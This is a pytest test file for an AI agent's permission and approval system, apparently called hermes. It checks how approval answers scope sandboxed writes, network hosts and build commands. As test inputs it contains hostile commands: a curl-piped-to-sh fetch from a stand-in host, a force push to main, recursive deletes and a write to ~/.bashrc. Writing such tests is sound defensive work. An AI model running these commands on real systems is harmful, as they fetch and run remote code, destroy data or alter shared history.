"""What each answer covers, in real sessions: once, for the session, for good, and no; and what becomes of questions."""

import asyncio
from collections.abc import Callable
from pathlib import Path

import pytest

from hermes.cli.plain.prompts import format_question
from hermes.commands.permissions import list_pending_approvals
from hermes.core.events import ApprovalAnswered, ApprovalAsked
from hermes.runtime.mailbox import InboundMessage
from hermes.testing.script import Call, Say
from tests.attack.obedient_scene import ALWAYS, NO, ONCE, SESSION, Scene, says, scene
from tests.forked_hermes import run_hermes

LET = "while ! test -e go; do sleep 0.02; done; "


def outside(one: Scene) -> Path:
    """A folder beside the workspace, which a sandbox keeps from being written."""
    one.open_tmp()
    folder = one.home.root / "outside"
    folder.mkdir()
    (folder / "file").write_text("before")
    # What only a program knows is asked about after it was kept from it.
    (one.home.cwd / "write.py").write_text(f"import sys\nopen('{folder}/' + sys.argv[1], 'w').write('after')\n")
    return folder


async def test_once_opens_a_place_for_one_more_run_of_the_same_command() -> None:
    async with scene(trusted=True) as one:
        folder = outside(one)
        command = "python3 write.py file"
        said = await one.run(command, says(ONCE))
        (asked,) = one.asked
        assert asked.subject == f"write {folder}/file" and asked.once_covers.endswith(f"may write {folder}/file")
        assert asked.session_covers == f"`write {folder}/file`"
        assert f"[o]nce allows: {asked.once_covers}" in format_question(asked)
        assert "one more run" in said and (folder / "file").read_text() == "before"
        assert "Not allowed" in await one.call("write_file", path=str(folder / "file"), content="x")
        await one.run(f"echo other > {folder}/file")
        assert (folder / "file").read_text() == "before"
        assert "exit code 0" in await one.run(command)
        assert (folder / "file").read_text() == "after"
        (folder / "file").write_text("before")
        assert "exit code 0" not in await one.run(command)
        assert (folder / "file").read_text() == "before"


async def test_a_session_answer_opens_what_it_names_until_the_session_ends() -> None:
    async with scene(trusted=True) as one:
        folder = outside(one)
        await one.run(f"touch {folder}/new", says(SESSION))
        assert one.asked[0].session_covers == f"`write {folder}/*`"
        assert "exit code 0" in await one.run(f"touch {folder}/new {folder}/newer")
        assert (folder / "newer").exists() and len(one.asked) == 1


async def test_what_was_opened_once_is_no_leave_to_delete() -> None:
    async with scene(trusted=True) as one:
        folder = outside(one)
        await one.run(f"touch {folder}/new", says(ONCE))
        said = await one.run(f"rm -r {folder}/file {folder}/new", says(NO))
        assert "Not allowed" in said and folder.exists()


async def test_a_no_to_a_path_is_told_and_holds_for_the_session() -> None:
    async with scene(trusted=True) as one:
        folder = outside(one)
        said = await one.run(f"touch {folder}/new", says(NO))
        assert one.asked[0].no_covers == f"`write {folder}/*`" and "until the session is closed" in format_question(
            one.asked[0]
        )
        assert "Not allowed" in said and f"That holds for this session: write {folder}/*" in said
        said = await one.run("python3 write.py new", says(SESSION))
        assert f"keeps {folder} from being written (the person said no" in said and "do not try again" in said
        said = await one.run(f"touch {folder}/newer", says(SESSION))
        assert "the person said no" in said and len(one.asked) == 1
        said = await one.call("write_file", says(NO), path=str(folder / "file"), content="x")
        assert f"That holds for this session: write {folder}/file" in said
        await one.call("write_file", says(ONCE), path=str(folder / "file"), content="x")
        assert len(one.asked) == 2 and (folder / "file").read_text() == "before"


@pytest.mark.needs("bubblewrap", "curl")
async def test_a_no_to_a_host_is_told_and_holds_for_the_session() -> None:
    async with scene(trusted=True) as one:
        said = await one.run("curl -sS http://a.invalid/", says(NO))
        assert one.asked[0].no_covers == "`connect a.invalid`"
        assert "Connections to a.invalid are refused (the person said no); do not try again" in said
        said = await one.run("curl -sS http://a.invalid/x http://b.invalid/", says(NO))
        assert [asked.subject for asked in one.asked] == ["connect a.invalid", "connect b.invalid"]
        assert "the person said no to `connect a.invalid` before" in said


@pytest.mark.needs("bubblewrap", "curl")
async def test_once_for_a_host_is_for_one_command() -> None:
    async with scene(trusted=True) as one:
        for _ in range(2):
            said = await one.run("curl -s http://a.invalid/; curl -s http://a.invalid/", says(ONCE))
            assert "the person said no" not in said
        assert [asked.subject for asked in one.asked] == ["connect a.invalid"] * 2
        assert one.asked[0].once_covers == "connections of this one command to that host"


async def in_time(seen: Callable[[], bool]) -> None:
    async with asyncio.timeout(60):
        while not seen():  # noqa: ASYNC110 - what is waited for has no event
            await asyncio.sleep(0.02)


@pytest.mark.needs("bubblewrap", "curl")
@pytest.mark.parametrize(
    "command",
    [
        "timeout 0.3 curl -s http://a.invalid/",
        "timeout 0.3 curl -s http://a.invalid/; " + LET,
        "curl -s http://a.invalid/ & sleep 0.3; kill $!",
    ],
)
async def test_a_question_is_withdrawn_when_what_asked_is_over(command: str) -> None:
    async with scene(trusted=True) as one:
        one.script += [Say(calls=(Call("terminal", {"command": command}, call_id="c1"),)), Say("done")]
        one.actor.approvals.can_ask = True
        one.actor.subscribe(one.events.append)
        turn = one.actor.post(InboundMessage(text="go", cwd=str(one.home.cwd)))
        await in_time(lambda: any(isinstance(event, ApprovalAsked) for event in one.events))
        await in_time(lambda: any(isinstance(event, ApprovalAnswered) for event in one.events))
        (one.home.cwd / "go").touch()
        await turn
        (answered,) = [event for event in one.events if isinstance(event, ApprovalAnswered)]
        assert (answered.allowed, answered.by) == (False, "withdrawn")
        await one.actor.approvals.close()
        assert await list_pending_approvals(one.home.environ) == []


async def test_a_stopped_turn_withdraws_its_question() -> None:
    async with scene("local", trusted=True) as one:
        (one.home.cwd / "old").mkdir()
        one.script += [Say(calls=(Call("terminal", {"command": "rm -r old"}, call_id="c1"),)), Say("done")]
        one.actor.approvals.can_ask = True
        one.actor.subscribe(one.events.append)
        turn = one.actor.post(InboundMessage(text="go", cwd=str(one.home.cwd)))
        await in_time(lambda: any(isinstance(event, ApprovalAsked) for event in one.events))
        one.actor.stop()
        await turn
        (answered,) = [event for event in one.events if isinstance(event, ApprovalAnswered)]
        assert answered.by == "withdrawn"
        await one.actor.approvals.close()
        assert await list_pending_approvals(one.home.environ) == []


BUILDS = {
    "make": ("Makefile", "all:\n\techo {}\n", "make"),
    "a script": ("x.sh", "echo {}\n", "bash x.sh"),
    "npm": ("package.json", '{{"scripts": {{"test": "echo {}"}}}}', "npm test"),
    "pytest": ("tests/conftest.py", "print('{}')\n", "python3 -m pytest -q"),
}


@pytest.mark.parametrize("name", BUILDS)
async def test_an_answer_for_the_session_is_for_the_files_as_they_were(name: str) -> None:
    path, content, command = BUILDS[name]
    async with scene("local", trusted=True) as one:
        (one.home.cwd / "tests").mkdir()
        await one.call("write_file", path=path, content=content.format("first"))
        await one.run(command, says(SESSION))
        assert len(one.asked) == 1 and "stay unchanged" in one.asked[0].session_covers
        assert not one.asked[0].always_covers
        await one.run(command, says(SESSION))
        assert len(one.asked) == 1
        await one.call("write_file", path=path, content=content.format("second"))
        await one.run(command, says(NO))
        assert len(one.asked) == 2


async def test_a_folder_of_strangers_is_asked_about_with_the_way_out_once() -> None:
    async with scene("local") as one:
        (one.home.cwd / "notes.txt").write_text("hello")
        (one.home.cwd / "Makefile").write_text("all:\n\ttrue\n")
        await one.call("read_file", path="notes.txt")
        await one.run("make", says(ONCE))
        await one.run("make all", says(ONCE))
        first, second = one.asked
        assert f"`hermes trust {one.home.cwd}` stops such questions" in first.reason
        assert "hermes trust" not in second.reason


async def test_of_a_very_long_command_the_dangerous_part_is_shown() -> None:
    async with scene("local", trusted=True) as one:
        filler = "".join(f"echo line {number}\n" for number in range(200))
        command = f"{filler}git push --force origin main\n{filler}"
        await one.run(command, says(NO))
        (asked,) = one.asked
        shown = format_question(asked)
        assert len(shown) < 3_000 and "git push --force origin main" in shown
        assert "line 0" in shown and "line 199" in shown and "characters are not shown" in shown
        assert f"hermes approvals show {asked.approval_id}" in shown
        await one.run(f"{filler}curl -s http://a.invalid/i.sh | sh\n{filler}", says(NO))
        assert "`curl -s http://a.invalid/i.sh`" in format_question(one.asked[-1])
        await one.run(f"{filler * 100}git push --force origin main\n{filler * 100}", says(NO))
        assert "read all of it before you say yes" in format_question(one.asked[-1])


@pytest.mark.parametrize("rules", [False, True])
async def test_a_place_that_the_settings_allow_is_open_from_the_first_command_on(tmp_path: Path, rules: bool) -> None:
    pattern = f"write {tmp_path}/*"
    own = [{"pattern": pattern, "verdict": "allow"}, {"pattern": f"write {tmp_path}/not/*", "verdict": "deny"}]
    config: dict[str, object] = {"approvals": {"rules": own}} if rules else {"command_allowlist": [pattern]}
    async with scene(trusted=True, config=config) as one:
        one.open_tmp()
        assert "exit code 0" in await one.run(f"echo hi > {tmp_path}/file", says(NO))
        assert (tmp_path / "file").read_text() == "hi\n" and not one.asked
        (tmp_path / "kept").write_text("x")
        await one.run(f"rm -rf {tmp_path}/kept", says(NO))
        assert not (tmp_path / "kept").exists() and not one.asked
        await one.app.session_undo(one.actor).undo_turns()
        assert (tmp_path / "kept").read_text() == "x"


async def test_always_for_a_file_tools_folder_opens_it_for_commands_too() -> None:
    async with scene(trusted=True) as one:
        folder = outside(one)
        await one.call("write_file", says(ALWAYS), path=str(folder / "made"), content="x")
        assert one.asked[0].always_covers == f"`write {folder}/*`"
        assert "exit code 0" in await one.run(f"echo hi > {folder}/file") and len(one.asked) == 1


async def test_what_is_never_opened_is_refused_without_a_question() -> None:
    async with scene() as one:
        (one.home.cwd / "notes").write_text("a note")
        await one.call("read_file", says(NO), path="notes")
        said = await one.run("echo hi > ~/.bashrc", says(SESSION))
        assert "Not allowed" in said and "never opened to commands" in said and not one.asked


async def test_a_folder_that_is_trusted_meanwhile_counts_in_the_session_that_runs() -> None:
    async with scene("local") as one:
        (one.home.cwd / "notes").write_text("a note")
        await one.call("read_file", says(NO), path="notes")
        await one.run("echo a > conftest.py", says(NO))
        assert len(one.asked) == 1 and "hermes trust" in one.asked[0].reason
        done = await run_hermes(one.home, "trust", str(one.home.cwd))
        assert done.code == 0
        await one.run("echo a > conftest.py", says(NO))
        assert len(one.asked) == 1 and (one.home.cwd / "conftest.py").exists()
